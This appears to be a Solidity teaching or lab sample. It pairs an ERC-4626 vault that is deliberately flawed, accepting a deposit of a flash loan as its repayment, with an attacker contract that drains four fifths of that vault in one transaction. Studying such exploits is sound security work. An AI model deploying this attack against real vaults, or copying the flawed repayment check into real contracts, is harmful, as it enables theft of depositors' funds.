// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC4626} from "solady/tokens/ERC4626.sol";
import {SafeTransferLib} from "solady/utils/SafeTransferLib.sol";

interface IFlashBorrower {
    function onFlashLoan(uint256 amount) external;
}

/// @notice An ERC-4626 vault that also lends its assets for the length of a call, and has a bug that real vaults have had:
/// it takes any increase of its balance for the repayment. A borrower who repays by *depositing* the loan keeps the shares.
contract LeakyVault is ERC4626 {
    using SafeTransferLib for address;

    error NotRepaid();

    address internal immutable _asset;

    constructor(address asset_) {
        _asset = asset_;
    }

    /// @notice Lends up to four fifths of the vault, free of charge.
    function flashLoan(uint256 amount) external {
        uint256 before = totalAssets();
        require(amount <= before * 4 / 5, InsufficientBalance());
        _asset.safeTransfer(msg.sender, amount);
        IFlashBorrower(msg.sender).onFlashLoan(amount);
        require(totalAssets() >= before, NotRepaid());
    }

    function asset() public view override returns (address) {
        return _asset;
    }

    function name() public pure override returns (string memory) {
        return "Leaky Vault";
    }

    function symbol() public pure override returns (string memory) {
        return "LEAK";
    }
}

/// @notice Drains four fifths of a LeakyVault in one transaction.
contract LeakyVaultAttacker is IFlashBorrower {
    using SafeTransferLib for address;

    LeakyVault internal _target;

    /// @return stolen asset units sent to the caller
    function attack(address vault) external returns (uint256 stolen) {
        _target = LeakyVault(vault);
        _target.flashLoan(_target.totalAssets() * 4 / 5);
        stolen = _target.redeem(_target.balanceOf(address(this)), msg.sender, address(this));
    }

    function onFlashLoan(uint256 amount) external {
        _target.asset().safeApprove(address(_target), amount);
        _target.deposit(amount, address(this));
    }
}
